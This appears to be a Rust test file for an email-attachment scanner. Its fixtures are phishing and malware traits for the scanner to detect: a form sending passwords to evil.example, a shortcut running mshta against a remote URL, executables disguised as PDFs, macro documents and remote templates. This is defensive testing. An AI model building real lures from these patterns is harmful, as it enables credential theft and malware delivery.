use proptest::prelude::*;

use super::*;

fn mail_with(media_type: &str, name: &str, content: &[u8]) -> Vec<u8> {
    let mut raw = format!(
        "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhello\r\n--x\r\n\
         Content-Type: {media_type}\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\n"
    )
    .into_bytes();
    raw.extend_from_slice(content);
    raw.extend_from_slice(b"\r\n--x--\r\n");
    raw
}

fn attached(media_type: &str, name: &str, content: &[u8]) -> Vec<Opened> {
    let raw = mail_with(media_type, name, content);
    let (mail, _) = mail::parse(&raw, &mail::Limits::default());
    open_all(&mail, &Body::of(&mail), 0, &mut Opener::new(&Limits::default(), ["", ""]))
}

fn one(media_type: &str, name: &str, content: &[u8]) -> Opened {
    attached(media_type, name, content).pop().unwrap()
}

/// An archive without contents: local headers are not read.
fn zip(names: &[&str], flags: u8) -> Vec<u8> {
    let mut octets = b"PK\x03\x04".to_vec();
    let mut directory = Vec::new();
    for name in names {
        directory.extend_from_slice(b"PK\x01\x02\x14\0\x14\0");
        directory.extend_from_slice(&[flags, 0]);
        directory.extend_from_slice(&[0; 18]);
        directory.extend_from_slice(&u16::try_from(name.len()).unwrap().to_le_bytes());
        directory.extend_from_slice(&[0; 16]);
        directory.extend_from_slice(name.as_bytes());
    }
    octets.extend_from_slice(&directory);
    octets.extend_from_slice(b"PK\x05\x06\0\0\0\0\0\0\0\0");
    octets.extend_from_slice(&u32::try_from(directory.len()).unwrap().to_le_bytes());
    octets.extend_from_slice(&[0; 6]);
    octets
}

#[test]
fn a_page_under_any_type_tells_its_form_and_its_scripts() {
    let page = b"<!DOCTYPE html><form method=post action='https://evil.example/c'>\
        <input type=password name=p></form><script>document.write(atob('PGI+'))</script>";
    for media_type in ["application/octet-stream", "text/html", "application/html", "image/png"] {
        let opened = one(media_type, "notice.html", page);
        assert_eq!(opened.attachment.kind, AttachmentKind::Page, "{media_type}");
        assert_eq!(opened.attachment.forms.len(), 1);
        assert_eq!(opened.attachment.script_signs, ["document.write", "atob("]);
        assert!(opened.links.iter().any(|(link, _)| link == "https://evil.example/c"));
    }
}

#[test]
fn an_archive_names_the_programs_in_it() {
    let opened = one("application/zip", "a.zip", &zip(&["readme.txt", "請求書.pdf.exe"], 0));
    assert_eq!(opened.attachment.programs, ["請求書.pdf.exe"]);
    assert_eq!(opened.attachment.lying_names, ["請求書.pdf.exe"]);
    assert!(!opened.attachment.is_locked && !opened.attachment.is_read);
    let locked = one("application/zip", "a.zip", &zip(&["a.xlsx"], 1));
    assert!(locked.attachment.is_locked && locked.attachment.programs.is_empty());
    let macros = one("application/x", "a.docm", &zip(&["word/vbaProject.bin"], 0));
    assert!(macros.attachment.is_active);
}

#[test]
fn a_program_is_known_whatever_it_is_called() {
    let hidden = one("application/pdf", "invoice.pdf", b"MZ\x90\0");
    assert_eq!(hidden.attachment.programs, ["invoice.pdf"]);
    assert_eq!(hidden.attachment.lying_names, ["invoice.pdf"]);
    let script = one("text/plain", "a.vbs", b"MsgBox 1");
    assert_eq!(script.attachment.programs, ["a.vbs"]);
    assert!(script.attachment.lying_names.is_empty());
}

#[test]
fn a_mail_without_files_has_no_attachments() {
    for raw in [
        "From: a@example.jp\r\n\r\nhello\r\n",
        "Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\n\r\na\r\n--x\r\n\
         Content-Type: text/html\r\n\r\n<p>a\r\n--x--\r\n",
        "Content-Type: multipart/signed; boundary=x\r\n\r\n--x\r\n\r\na\r\n--x\r\n\
         Content-Type: application/pkcs7-signature; name=smime.p7s\r\n\r\nxx\r\n--x--\r\n",
    ] {
        let (mail, _) = mail::parse(raw.as_bytes(), &mail::Limits::default());
        assert!(
            open_all(&mail, &Body::of(&mail), 0, &mut Opener::new(&Limits::default(), ["", ""]))
                .is_empty(),
            "{raw}"
        );
    }
}

proptest! {
    #[test]
    fn any_bytes_can_be_attached(
        start in prop::sample::select(vec![
            &b""[..], b"PK\x03\x04", b"%PDF-1 /URI (", b"BEGIN:VCALENDAR\r\nURL:", b"<html>",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x01\x02",
        ]),
        content in proptest::collection::vec(any::<u8>(), 0..400),
        end in prop::sample::select(vec![&b""[..], b"PK\x05\x06\0\0\0\0\0\0\0\0\x20\0\0\0\0\0\0\0\0\0"]),
        name in "[a-z.\u{202e}]{0,12}",
    ) {
        let octets = [start, &content, end].concat();
        let _ = attached("application/octet-stream", &name, &octets);
        let _ = attached("text/calendar", &name, &octets);
    }
}

/// A ZIP archive with contents, packed as most are.
fn full_zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    let short = |number: usize| u16::try_from(number).unwrap().to_le_bytes();
    let long = |number: usize| u32::try_from(number).unwrap().to_le_bytes();
    let (mut octets, mut directory) = (Vec::new(), Vec::new());
    for (name, content) in files {
        let packed = miniz_oxide::deflate::compress_to_vec(content, 6);
        let at = octets.len();
        let head = [
            &[20, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0][..],
            &long(packed.len()),
            &long(content.len()),
        ]
        .concat();
        octets.extend([b"PK\x03\x04", head.as_slice(), &short(name.len()), &[0; 2]].concat());
        octets.extend(name.bytes());
        octets.extend(&packed);
        directory.extend([b"PK\x01\x02\x14\0", head.as_slice(), &short(name.len())].concat());
        directory.extend([0; 12]);
        directory.extend(long(at));
        directory.extend(name.bytes());
    }
    let (start, length) = (octets.len(), directory.len());
    octets.extend(directory);
    octets.extend([b"PK\x05\x06", &[0; 8][..], &long(length), &long(start), &[0; 2]].concat());
    octets
}

fn files(opened: &[Opened]) -> Vec<(&str, AttachmentKind)> {
    opened.iter().map(|one| (one.attachment.file.as_str(), one.attachment.kind)).collect()
}

#[test]
fn files_in_an_archive_are_read_like_attachments() {
    let page = b"<html><a href='https://a.example/in'>go</a><form><input type=password></form>";
    let inner = full_zip(&[("notice.pdf", page), ("logo.png", b"\x89PNG")]);
    let archive = full_zip(&[
        ("inner.zip", &inner),
        ("plan.ics", b"BEGIN:VCALENDAR\nURL:https://b.example/\n"),
    ]);
    let opened = attached("application/zip", "a.zip", &archive);
    assert_eq!(
        files(&opened),
        [
            ("a.zip", AttachmentKind::Zip),
            ("a.zip/inner.zip", AttachmentKind::Zip),
            ("a.zip/inner.zip/notice.pdf", AttachmentKind::Page),
            ("a.zip/plan.ics", AttachmentKind::Calendar),
        ]
    );
    assert_eq!(opened[2].links[0].0, "https://a.example/in");
    assert_eq!(opened[2].attachment.lying_names, ["notice.pdf"]);
    assert!(opened.iter().all(|one| one.attachment.is_read));
}

#[test]
fn archives_in_archives_end_at_a_depth() {
    let mut archive = full_zip(&[("a.html", b"<html><p>")]);
    for _ in 0..6 {
        archive = full_zip(&[("next.zip", &archive)]);
    }
    let opened = attached("application/zip", "a.zip", &archive);
    assert_eq!(opened.len(), 1 + Limits::default().inner_depth);
    assert!(!opened.last().unwrap().attachment.is_read);
}

#[test]
fn scripts_are_the_parts_of_a_work_and_alone_they_are_programs() {
    let alone = full_zip(&[("invoice.js", b"WScript.Echo(1)")]);
    assert_eq!(one("application/zip", "a.zip", &alone).attachment.programs, ["invoice.js"]);
    let work = full_zip(&[
        ("app/README.md", b"x"),
        ("app/index.js", b"x"),
        ("app/build.cmd", b"x"),
        ("app/page.html", b"<html>"),
    ]);
    let opened = attached("application/zip", "a.zip", &work);
    assert!(opened[0].attachment.programs.is_empty() && opened.len() == 1);
    let trap = full_zip(&[("README.txt", b"x"), ("a.dat", b"MZ\x90"), ("b.scr", b"x")]);
    assert_eq!(
        attached("application/zip", "a.zip", &trap)[0].attachment.programs,
        ["b.scr", "a.dat"]
    );
}

#[test]
fn gzip_and_tar_are_opened_too() {
    let mut tar = b"notes.html".to_vec();
    tar.resize(124, 0);
    tar.extend(b"00000000033\0");
    tar.resize(156, b' ');
    tar.push(b'0');
    tar.resize(257, 0);
    tar.extend(b"ustar\x0000");
    tar.resize(512, 0);
    tar.extend(b"<html><a href=//a.example>x");
    tar.resize(2_048, 0);
    let mut gzip = b"\x1f\x8b\x08\0\0\0\0\0\0\0".to_vec();
    gzip.extend(miniz_oxide::deflate::compress_to_vec(&tar, 6));
    let opened = attached("application/gzip", "a.tar.gz", &gzip);
    let names: Vec<_> = files(&opened).into_iter().map(|(name, _)| name).collect();
    assert_eq!(names, ["a.tar.gz", "a.tar.gz/a.tar", "a.tar.gz/a.tar/notes.html"]);
    assert_eq!(opened[2].links[0].0, "//a.example");
}

#[test]
fn a_shortcut_tells_where_it_leads() {
    let shortcut: Vec<u8> =
        "mshta https://a.example/x".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let shortcut = [b"L\0\0\0\x01\x14\x02\0", shortcut.as_slice()].concat();
    let archive = full_zip(&[("bill.lnk", &shortcut)]);
    let opened = attached("application/zip", "a.zip", &archive);
    assert_eq!(opened[0].attachment.programs, ["bill.lnk"]);
    assert_eq!(opened[1].links[0].0, "https://a.example/x");
}

#[test]
fn an_office_document_leads_where_its_relations_lead() {
    let relations = br#"<Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="https://a.example/?a&amp;b" TargetMode="External"/>
        <Relationship Id="2" Type="http://x/attachedTemplate" Target="file:///C:/Users/me/Normal.dotm" TargetMode="External"/>
        <Relationship Id="3" Type="http://x/image" Target="media/1.png"/></Relationships>"#;
    let document = full_zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/_rels/document.xml.rels", relations),
    ]);
    let opened = one("application/octet-stream", "a.docx", &document);
    assert_eq!(opened.links, [("https://a.example/?a&b".to_owned(), String::new())]);
    assert!(!opened.attachment.is_active && opened.attachment.is_read);
    let fetched = br#"<Relationship Type="http://x/attachedTemplate" Target="https://a.example/t.dotm" TargetMode="External"/>"#;
    let document = full_zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/_rels/settings.xml.rels", fetched),
    ]);
    assert!(one("application/octet-stream", "a.docx", &document).attachment.is_active);
    let text = b"<w:instrText>HYPERLINK &quot;https://b.example&quot;</w:instrText>";
    let document = full_zip(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", text)]);
    assert_eq!(
        one("application/octet-stream", "a.docx", &document).links[0].0,
        "https://b.example"
    );
    let rich = br#"{\rtf1{\field{\*\fldinst{HYPERLINK "https://c.example"}}}{\object\objupdate}}"#;
    let opened = one("application/msword", "a.doc", rich);
    assert_eq!(
        (opened.links[0].0.as_str(), opened.attachment.is_active),
        ("https://c.example", true)
    );
}

#[test]
fn a_message_in_the_message_leads_where_its_text_leads() {
    let raw = b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nsee below\r\n--x\r\n\
        Content-Type: message/rfc822\r\n\r\nSubject: a\r\nContent-Type: text/html\r\n\r\n\
        <a href=https://a.example/>go</a>\r\n--x--\r\n";
    let (mail, _) = mail::parse(raw, &mail::Limits::default());
    let limits = Limits::default();
    let opened = open_all(&mail, &Body::of(&mail), 0, &mut Opener::new(&limits, ["", ""]));
    assert_eq!(opened[0].links, [("https://a.example/".to_owned(), "go".to_owned())]);
    assert_eq!(opened[0].attachment.kind, AttachmentKind::Message);
    let file = b"Subject: a\r\n\r\nhttps://b.example/\r\n";
    let opened = one("application/octet-stream", "a.eml", file);
    assert_eq!(opened.links[0].0, "https://b.example/");
}
